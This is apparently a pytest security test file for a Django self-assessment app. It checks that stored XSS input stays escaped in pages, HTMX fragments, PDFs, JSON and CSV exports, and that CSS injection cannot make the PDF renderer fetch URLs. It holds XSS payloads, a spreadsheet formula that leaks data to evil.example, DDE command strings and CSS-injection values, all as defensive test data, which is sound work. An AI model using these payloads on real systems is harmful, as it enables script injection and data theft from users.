"""Stored XSS: hostile text typed into the self-assessment stays inert wherever it is shown.

Every hostile value goes in the way an attacker would type it: through the real forms
(organisation, invitations, rounds, the checklist page, notes, actions). It then has to come
out escaped on every page and HTMX fragment that shows it, as literal text in the PDF report
(with no JavaScript and no javascript: links in the file), exactly in the JSON exports, and
neutralised in CSV cells that a spreadsheet would take for a formula.
"""

import csv
import io
import json
import re
import threading
from dataclasses import dataclass
from html import escape
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, HTTPServer

import pypdf
import pytest
from django.core.validators import validate_email
from django.urls import reverse

from assessments import services
from assessments.models import Action, Invitation, Membership, Organisation, Role
from content.models import ChecklistItem, KeyArea
from tests.assessments.conftest import make_user
from tests.pdfs import pdf_text

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
]
# E-mail addresses are shown too; these two pass Django's e-mail validation (quoted local part).
MEMBER_EMAIL = '"<script>alert(1)</script>"@evil.example'
INVITED_EMAIL = '"javascript:alert(1)"@evil.example'
# Names are shown wherever people are; the hostile member gives this one when joining.
MEMBER_NAME = '<script>alert(1)</script> "Ļauna" <img src=x onerror=alert(1)>'
ITEM_KEYS = ["ka1.c1.i01", "ka1.c1.i02", "ka1.c1.i03", "ka1.c1.i04"]
GAP_VALUES = ["no", "partly", "no", "partly"]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
JAVASCRIPT_URL = re.compile(r"""(?i)\b(href|src|action|formaction)\s*=\s*["']?\s*javascript:""")


class _MarkupAudit(HTMLParser):
    """Finds markup that could run script: event-handler attributes (including htmx's
    hx-on), javascript: URLs, and <script> elements other than our own external files."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith(("on", "hx-on")):
                self.problems.append(f"<{tag}> has an event handler attribute {name}")
            if name in URL_ATTRIBUTES and (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}> is a javascript: URL")
        if tag == "script":
            self._in_script = True
            if not dict(attrs).get("src"):
                self.problems.append("an inline <script> element")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append("a <script> element with content")


def html_problems(body: str, payload: str) -> list[str]:
    """What is wrong with a page or fragment that shows `payload` (and MEMBER_EMAIL maybe)."""
    problems = []
    if set(payload) & set('<>"') and payload in body:
        problems.append(f"the payload {payload!r} appears unescaped")
    if "<script>alert(1)" in body:
        problems.append("'<script>alert(1)' appears unescaped")
    if escape(payload) not in body:
        problems.append(f"the payload is not shown (escaped: {escape(payload)!r})")
    if JAVASCRIPT_URL.search(body):
        problems.append("a javascript: URL in an attribute")
    audit = _MarkupAudit()
    audit.feed(body)
    audit.close()
    return problems + audit.problems


@dataclass
class Scene:
    payload: str
    organisation: Organisation
    first_round: object  # closed, the previous round
    second_round: object  # open, started from the first
    coordinator: object
    member: object  # the practitioner with the hostile e-mail address
    viewer: object
    action: Action
    invitation: Invitation  # pending, to the hostile INVITED_EMAIL


def _ok(response, status=302):
    assert response.status_code == status, response.content.decode()[:500]
    return response


def build_scene(client, payload: str) -> Scene:
    """An organisation whose every user-typed field holds `payload`, entered through the UI."""
    for address in (MEMBER_EMAIL, INVITED_EMAIL):
        validate_email(address)  # the addresses are real possibilities, not test shortcuts
    coordinator = make_user("koordinators@drosiba.example")
    client.force_login(coordinator)
    _ok(
        client.post(
            reverse("assessments:organisation_create"),
            {"name": payload, "org_type": "local_authority", "city": payload, "country": "LV"},
        )
    )
    organisation = Organisation.objects.get(memberships__user=coordinator)
    slug = organisation.slug
    members_url = reverse("assessments:members", args=[slug])

    _ok(client.post(members_url, {"email": MEMBER_EMAIL, "role": Role.PRACTITIONER}))
    member = make_user(MEMBER_EMAIL, name="")
    token = Invitation.objects.get(email=MEMBER_EMAIL).token
    client.force_login(member)
    _ok(client.post(reverse("assessments:invitation", args=[token]), {"first_name": MEMBER_NAME}))
    client.force_login(coordinator)
    _ok(client.post(members_url, {"email": INVITED_EMAIL, "role": Role.VIEWER}))
    viewer = make_user("skatitajs@drosiba.example")
    Membership.objects.create(user=viewer, organisation=organisation, role=Role.VIEWER)

    def answer_and_note(round_):
        client.force_login(member)
        data = {"text": payload, "version": "0"}  # the round's first notes
        for key, value in zip(ITEM_KEYS, GAP_VALUES, strict=True):
            answer = round_.answers.filter(item__key=key).first()
            data |= {
                f"value-{key}": value,
                f"comment-{key}": f"{payload} ({round_.name})",
                f"version-{key}": str(answer.version if answer else 0),
            }
        _ok(client.post(reverse("assessments:area", args=[slug, round_.pk, 1]), data))

    def plan_action(round_):
        client.force_login(coordinator)
        url = reverse("assessments:action_new", args=[slug, round_.pk]) + f"?item={ITEM_KEYS[0]}"
        _ok(
            client.post(
                url,
                {
                    "item": ITEM_KEYS[0],
                    "title": payload,
                    "owner": member.pk,
                    "due_date": "2020-01-31",  # overdue: shown on the review too
                    "past_date_ok": "on",  # the date is in the past on purpose
                    "status": "open",
                },
            )
        )

    _ok(client.post(reverse("assessments:round_start", args=[slug]), {"name": payload}))
    first = organisation.rounds.get()
    answer_and_note(first)
    plan_action(first)
    _ok(client.post(reverse("assessments:round_close", args=[slug, first.pk])))
    _ok(
        client.post(
            reverse("assessments:round_start", args=[slug]),
            {"name": f"{payload} 2", "copy_previous": "on"},
        )
    )
    second = organisation.rounds.exclude(pk=first.pk).get()
    answer_and_note(second)
    plan_action(second)
    return Scene(
        payload=payload,
        organisation=organisation,
        first_round=first,
        second_round=second,
        coordinator=coordinator,
        member=member,
        viewer=viewer,
        action=Action.objects.get(round=second),
        invitation=Invitation.objects.get(email=INVITED_EMAIL),
    )


@pytest.fixture(params=PAYLOADS, ids=["script", "img-onerror", "attribute-breakout", "js-url"])
def scene(request, client):
    return build_scene(client, request.param)


def pages(s: Scene) -> dict[str, tuple[object, str]]:
    """Every page that shows what the scene typed: name -> (who looks, URL)."""
    slug, first, second = s.organisation.slug, s.first_round.pk, s.second_round.pk
    c, m, v = s.coordinator, s.member, s.viewer
    return {
        "my organisations": (c, reverse("assessments:home")),
        "organisation": (c, reverse("assessments:organisation", args=[slug])),
        "members": (c, reverse("assessments:members", args=[slug])),
        "delete organisation": (c, reverse("assessments:organisation_delete", args=[slug])),
        "round (open)": (c, reverse("assessments:round", args=[slug, second])),
        "round (closed)": (v, reverse("assessments:round", args=[slug, first])),
        "area (editable)": (m, reverse("assessments:area", args=[slug, second, 1])),
        "area (viewer)": (v, reverse("assessments:area", args=[slug, second, 1])),
        "area (closed round)": (c, reverse("assessments:area", args=[slug, first, 1])),
        "summary (open)": (c, reverse("reporting:summary", args=[slug, second])),
        "summary (closed)": (v, reverse("reporting:summary", args=[slug, first])),
        "review": (v, reverse("reporting:review", args=[slug])),
        "plan an action": (
            c,
            reverse("assessments:action_new", args=[slug, second]) + f"?item={ITEM_KEYS[1]}",
        ),
        "edit an action": (c, reverse("assessments:action_edit", args=[slug, s.action.pk])),
        "handbook chapter (call to answer)": (m, reverse("content:key_area", args=[1])),
        "assessment table": (c, reverse("practices:practice_list", args=[slug])),
        "invitation": (None, reverse("assessments:invitation", args=[s.invitation.token])),
    }


def test_every_page_shows_hostile_text_inert(scene, client):
    problems = []
    for name, (user, url) in pages(scene).items():
        client.logout()
        if user is not None:
            client.force_login(user)
        response = client.get(url)
        if response.status_code != 200:
            problems.append(f"{name}: status {response.status_code}")
            continue
        problems += [
            f"{name}: {p}" for p in html_problems(response.content.decode(), scene.payload)
        ]
    assert not problems, "\n".join(problems)


def test_member_name_and_email_are_escaped_where_members_are_listed(scene, client):
    """The name wherever members are shown; the address on the members page only (to the
    coordinator), and escaped there."""
    client.force_login(scene.coordinator)
    members = reverse("assessments:members", args=[scene.organisation.slug])
    for url in (
        members,
        reverse("reporting:review", args=[scene.organisation.slug]),
        reverse("reporting:summary", args=[scene.organisation.slug, scene.second_round.pk]),
    ):
        body = client.get(url).content.decode()
        assert escape(MEMBER_NAME) in body, url
        assert MEMBER_NAME not in body and MEMBER_EMAIL not in body, url
        assert (escape(MEMBER_EMAIL) in body) == (url == members), url


def test_htmx_fragments_show_hostile_text_inert(scene, client):
    s, payload = scene, scene.payload
    slug, round_ = s.organisation.slug, s.second_round
    key = ITEM_KEYS[0]
    item_url = reverse("assessments:item_save", args=[slug, round_.pk, key])
    notes_url = reverse("assessments:note_save", args=[slug, round_.pk, 1])
    htmx = {"HTTP_HX_REQUEST": "true"}
    client.force_login(s.coordinator)
    stored = round_.answers.get(item__key=key)
    fragments = {
        # A stale save: the whole item comes back with both comments.
        "item conflict": client.post(
            item_url,
            {f"value-{key}": "yes", f"comment-{key}": payload, f"version-{key}": "0"},
            HTTP_HX_TARGET=key,
            **htmx,
        ),
        # An invalid value: the item comes back with the typed comment kept.
        "item error": client.post(
            item_url,
            {
                f"value-{key}": "maybe",
                f"comment-{key}": payload,
                f"version-{key}": str(stored.version),
            },
            **htmx,
        ),
        "note conflict": client.post(notes_url, {"text": f"{payload}!", "version": "0"}, **htmx),
    }
    # A successful save answers with the item's state ("last changed by" the hostile name).
    client.force_login(s.member)
    fragments["item saved"] = client.post(
        item_url,
        {f"value-{key}": "yes", f"comment-{key}": payload, f"version-{key}": str(stored.version)},
        **htmx,
    )
    problems = []
    for name, response in fragments.items():
        assert response.status_code in (200, 422), (name, response.status_code)
        body = response.content.decode()
        if name == "item saved":
            assert escape(MEMBER_NAME) in body and MEMBER_NAME not in body
            assert "evil.example" not in body
            continue
        problems += [f"{name}: {p}" for p in html_problems(body, payload)]
    assert not problems, "\n".join(problems)


def test_no_javascript_pages_on_conflict_show_hostile_text_inert(scene, client):
    s, payload = scene, scene.payload
    slug, round_ = s.organisation.slug, s.second_round
    key = ITEM_KEYS[0]
    client.force_login(s.coordinator)
    area = client.post(
        reverse("assessments:area", args=[slug, round_.pk, 1]),
        {f"value-{key}": "yes", f"comment-{key}": f"{payload}?", f"version-{key}": "0"},
    )
    notes = client.post(
        reverse("assessments:note_save", args=[slug, round_.pk, 1]),
        {"text": f"{payload}?", "version": "0"},
    )
    problems = []
    for name, response in {"area": area, "notes": notes}.items():
        assert response.status_code == 409, name
        problems += [f"{name}: {p}" for p in html_problems(response.content.decode(), payload)]
    assert not problems, "\n".join(problems)


def pdf_text_and_problems(pdf: bytes) -> tuple[str, list[str]]:
    """The PDF's text, and anything in it that could run script or open a javascript: URL."""
    problems = []
    for marker in (b"/JavaScript", b"/JS ", b"/JS(", b"/JS<", b"/Launch"):
        if marker in pdf:
            problems.append(f"{marker!r} in the file")
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    for number in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(number)
        except Exception:  # noqa: BLE001 - free or unused object numbers
            continue
        if not isinstance(obj, pypdf.generic.DictionaryObject):
            continue
        if {"/JS", "/JavaScript"} & set(obj.keys()) or obj.get("/S") in ("/JavaScript", "/Launch"):
            problems.append(f"object {number} holds JavaScript")
        uri = obj.get("/URI")
        if uri is not None and str(uri).strip().lower().startswith("javascript:"):
            problems.append(f"object {number} links to {uri}")
    return pdf_text(pdf), problems


def _squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


@pytest.mark.pdf
def test_pdf_report_shows_hostile_text_literally_and_runs_nothing(scene, client):
    s, payload = scene, scene.payload
    client.force_login(s.viewer)
    response = client.get(
        reverse("reporting:report_pdf", args=[s.organisation.slug, s.second_round.pk])
    )
    assert response.status_code == 200
    text, problems = pdf_text_and_problems(response.content)
    assert not problems, problems
    squeezed = _squeezed(text)
    # Name, round, comment, note and action title all carry the payload; so does the running
    # header on every page after the cover.
    pages = len(pypdf.PdfReader(io.BytesIO(response.content)).pages)
    assert squeezed.count(_squeezed(payload)) >= 5 + (pages - 1)
    assert _squeezed(f"{payload} · {payload} 2") in squeezed  # the running header
    for entity in ("&lt;", "&gt;", "&quot;", "&#x27;", "&amp;"):
        assert entity not in text, f"{entity} shown instead of the character"


def test_json_exports_hold_the_exact_text(scene, client):
    s, payload = scene, scene.payload
    slug = s.organisation.slug
    client.force_login(s.coordinator)
    response = client.get(reverse("reporting:export_json", args=[slug, s.second_round.pk]))
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment")
    document = json.loads(response.content)
    assert document["organisation"]["name"] == payload
    assert document["round"]["name"] == f"{payload} 2"
    assert {n["text"] for n in document["notes"]} == {payload}
    assert [a["title"] for a in document["actions"]] == [payload]
    comments = {a["item"]: a["comment"] for a in document["answers"] if a["comment"]}
    assert comments == {key: f"{payload} ({payload} 2)" for key in ITEM_KEYS}
    everything = client.get(reverse("reporting:organisation_export", args=[slug]))
    assert everything["X-Content-Type-Options"] == "nosniff"
    document = json.loads(everything.content)
    assert document["organisation"]["name"] == document["organisation"]["city"] == payload
    assert MEMBER_EMAIL in [m["email"] for m in document["members"]]


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))  # Latvian: ";"


def test_csv_export_of_hostile_text_keeps_it_as_text(scene, client):
    s, payload = scene, scene.payload
    client.force_login(s.coordinator)
    response = client.get(
        reverse("reporting:export_csv", args=[s.organisation.slug, s.second_round.pk])
    )
    assert response["Content-Disposition"].startswith("attachment")
    cells = [cell for row in csv_rows(response) for cell in row]
    assert cells.count(payload) == 2  # the note and the action
    assert cells.count(f"{payload} ({payload} 2)") == len(ITEM_KEYS)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client):
    from assessments import services

    coordinator = make_user("koordinators@formulas.example")
    client.force_login(coordinator)
    _ok(
        client.post(
            reverse("assessments:organisation_create"),
            {"name": "Formulas", "org_type": "ngo", "city": "Rīga", "country": "LV"},
        )
    )
    organisation = Organisation.objects.get()
    _ok(client.post(reverse("assessments:round_start", args=[organisation.slug]), {"name": "R"}))
    round_ = organisation.rounds.get()
    for number, formula in enumerate(FORMULAS, start=1):
        # Notes keep their text as typed (leading tabs and returns too).
        services.note_set(
            round=round_,
            key_area=KeyArea.objects.get(number=number),
            text=formula,
            expected_version=0,
            user=coordinator,
        )
    for key, formula in zip(ITEM_KEYS, FORMULAS, strict=False):
        _ok(
            client.post(
                reverse("assessments:area", args=[organisation.slug, round_.pk, 1]),
                {f"value-{key}": "no", f"comment-{key}": formula, f"version-{key}": "0"},
            )
        )
        services.action_create(
            round=round_,
            item=ChecklistItem.objects.get(key=key),
            title=formula,
            owner=None,
            due_date=None,
            user=coordinator,
        )

    response = client.get(reverse("reporting:export_csv", args=[organisation.slug, round_.pk]))
    cells = [cell for row in csv_rows(response) for cell in row]

    dangerous = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert not dangerous, dangerous
    for formula in FORMULAS:
        assert f"'{formula}" in cells, f"{formula!r} is not kept as text"
    json_document = json.loads(
        client.get(reverse("reporting:export_json", args=[organisation.slug, round_.pk])).content
    )
    assert {n["text"] for n in json_document["notes"]} == set(FORMULAS)  # JSON: exactly as typed


class _Recorder(BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self):  # noqa: N802 - the http.server API
        _Recorder.requests.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.mark.pdf
def test_pdf_report_does_not_let_a_name_inject_css_that_fetches_urls(client):
    """A newline ends a CSS string: a name that reached the PDF's stylesheet could add rules,
    and WeasyPrint would fetch their url()s from the server (server-side request forgery)."""
    server = HTTPServer(("127.0.0.1", 0), _Recorder)
    _Recorder.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        base = f"http://127.0.0.1:{server.server_address[1]}"
        name = (
            f"Ogre\n}} }} html {{ background: url({base}/organisation) }} "
            '@page { @top-left { content: "'
        )
        round_name = f"R\n;}} }} body {{ background-image: url({base}/round) }} p {{ x: "
        coordinator = make_user("koordinators@css.example")
        client.force_login(coordinator)
        # The forms refuse line breaks in names ...
        refused = client.post(
            reverse("assessments:organisation_create"),
            {"name": name, "org_type": "ngo", "city": "Ogre", "country": "LV"},
        )
        assert refused.status_code == 200 and not Organisation.objects.exists()
        # ... and should such a name get in another way, the PDF still does not apply it.
        organisation = Organisation.objects.create(
            slug="ogre", name=name, org_type="ngo", city="Ogre", country="LV"
        )
        Membership.objects.create(user=coordinator, organisation=organisation, role="coordinator")
        round_ = services.round_start(organisation=organisation, name=round_name, user=coordinator)
        response = client.get(reverse("reporting:report_pdf", args=[organisation.slug, round_.pk]))
        assert response.status_code == 200
    finally:
        server.shutdown()
        server.server_close()
    assert _Recorder.requests == [], "the PDF renderer fetched URLs named in user text"
    text, problems = pdf_text_and_problems(response.content)
    assert not problems
    assert _squeezed(f"{base}/organisation") in _squeezed(text)  # shown as text, not applied


@pytest.mark.parametrize("payload", PAYLOADS)
def test_search_box_reflects_a_hostile_query_inert(client, payload):
    body = client.get(reverse("content:search"), {"q": payload}).content.decode()
    assert not html_problems(body, payload)
